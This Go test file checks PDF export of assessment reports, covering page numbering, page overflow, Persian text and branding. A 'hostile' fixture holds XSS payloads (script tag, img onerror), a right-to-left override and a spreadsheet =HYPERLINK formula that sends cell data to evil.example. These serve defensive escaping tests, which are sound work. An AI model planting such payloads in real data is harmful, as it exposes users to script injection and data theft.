package report

import (
	"encoding/xml"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"socialmaturity/assess"
)

// printPDF prints v to PDF, or skips the test without Chrome/Chromium and
// poppler's pdftotext.
func printPDF(t *testing.T, v func(t *testing.T) []byte) string {
	t.Helper()
	if _, err := FindBrowser(""); err != nil {
		t.Skipf("skipped: %v (install the Debian packages chromium and poppler-utils)", err)
	}
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("skipped: pdftotext is missing (install the Debian package poppler-utils)")
	}
	path := filepath.Join(t.TempDir(), "report.pdf")
	if err := os.WriteFile(path, v(t), 0o644); err != nil {
		t.Fatal(err)
	}
	if dir := os.Getenv("SOCIALMATURITY_PDF_DIR"); dir != "" { // to look at the pages
		os.WriteFile(filepath.Join(dir, strings.ReplaceAll(t.Name(), "/", "_")+".pdf"), v(t), 0o644)
	}
	return path
}

func pdfText(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command("pdftotext", args...).Output()
	if err != nil {
		t.Fatalf("pdftotext %v: %v", args, err)
	}
	return string(out)
}

// bboxPages are pdftotext -bbox pages: their width and their words.
type bboxPages struct {
	Pages []struct {
		Width float64 `xml:"width,attr"`
		Words []struct {
			XMin float64 `xml:"xMin,attr"`
			XMax float64 `xml:"xMax,attr"`
			Text string  `xml:",chardata"`
		} `xml:"word"`
	} `xml:"body>doc>page"`
}

// checkPages checks every page of a PDF: it carries "Page N of M" and no
// word runs past the page's edge. It returns the page count.
func checkPages(t *testing.T, path string) int {
	t.Helper()
	var doc bboxPages
	raw := pdfText(t, "-bbox", path, "-")
	// pdftotext writes an XHTML document with entities XML knows.
	dec := xml.NewDecoder(strings.NewReader(raw))
	dec.Strict = false
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("pdftotext -bbox: %v", err)
	}
	n := len(doc.Pages)
	if n == 0 {
		t.Fatal("no pages")
	}
	for i, p := range doc.Pages {
		var words []string
		for _, w := range p.Words {
			words = append(words, w.Text)
			if w.XMin < 0 || w.XMax > p.Width {
				t.Errorf("page %d: %q runs from %.0f to %.0f, past the page (width %.0f)", i+1, w.Text, w.XMin, w.XMax, p.Width)
			}
		}
		if want := fmt.Sprintf("Page %d of %d", i+1, n); !strings.Contains(strings.Join(words, " "), want) {
			t.Errorf("page %d lacks %q", i+1, want)
		}
	}
	return n
}

// Issue 11, done when: fixtures printed by headless Chromium keep page
// numbers on every page and every word on the page, and an 800-character
// unbroken note changes the page count by at most one.
func TestPDF(t *testing.T) {
	pdf := func(mod func(t *testing.T) *exportCase) func(t *testing.T) []byte {
		return func(t *testing.T) []byte {
			c := mod(t)
			return []byte(exportWith(t, c.v, FormatPDF, c.opts))
		}
	}
	base := func(t *testing.T) *exportCase { return &exportCase{v: stored(t, "Northwind Outfitters")} }
	basePages := checkPages(t, printPDF(t, pdf(base)))

	longNote := func(t *testing.T) *exportCase {
		c := base(t)
		c.v.Answers[0].Items[0].Note = "https://example.com/" + strings.Repeat("a1b2c3d4", 100)
		return c
	}
	if n := checkPages(t, printPDF(t, pdf(longNote))); n > basePages+1 || n < basePages {
		t.Errorf("the long note gives %d pages, the report without it %d", n, basePages)
	}
	for name, mod := range map[string]func(t *testing.T) *exportCase{
		"provisional": func(t *testing.T) *exportCase { return &exportCase{v: provisional(t)} },
		"hostile": func(t *testing.T) *exportCase {
			c := &exportCase{v: stored(t, `<script>alert(1)</script> & "Co" A`+"\u202e"+`evil`)}
			c.v.Respondent = `"><img src=x onerror=alert(2)>`
			c.v.Answers[1].Items[0].Note = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")\nLine two\n\nLine four"
			return c
		},
		"persian": func(t *testing.T) *exportCase {
			c := &exportCase{v: stored(t, "شرکت نمونه (۳ کانال)")}
			c.v.Respondent, c.v.Role = "مریم احمدی", "مدیر بازاریابی"
			c.v.Answers[0].Items[1].Note = "ما در سه کانال فعال هستیم (۳ کانال).\nخط دوم."
			return c
		},
		"long org": func(t *testing.T) *exportCase {
			return &exportCase{v: stored(t, strings.Repeat("Very Long Organization Name ", 11)[:300])}
		},
		"branded": func(t *testing.T) *exportCase {
			logo, err := LoadLogo("logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10"><rect width="40" height="10" fill="#0a6"/></svg>`))
			if err != nil {
				t.Fatal(err)
			}
			return &exportCase{v: stored(t, "Acme"), opts: Options{Logo: logo, Accent: "#0a6", PreparedBy: "Ada Consulting"}}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			checkPages(t, printPDF(t, pdf(mod)))
		})
	}
}

type exportCase struct {
	v    *assess.View
	opts Options
}

// The PDF has no near-empty page: every page but the cover and the last
// holds a fair share of text.
func TestPDFHasNoNearEmptyPages(t *testing.T) {
	path := printPDF(t, func(t *testing.T) []byte { return []byte(exportWith(t, stored(t, "Acme"), FormatPDF, Options{})) })
	pages := strings.Split(pdfText(t, path, "-"), "\f")
	words := regexp.MustCompile(`\S+`)
	for i, p := range pages[1 : len(pages)-2] {
		if n := len(words.FindAllString(p, -1)); n < 60 {
			t.Errorf("page %s has only %d words:\n%s", strconv.Itoa(i+2), n, p)
		}
	}
}
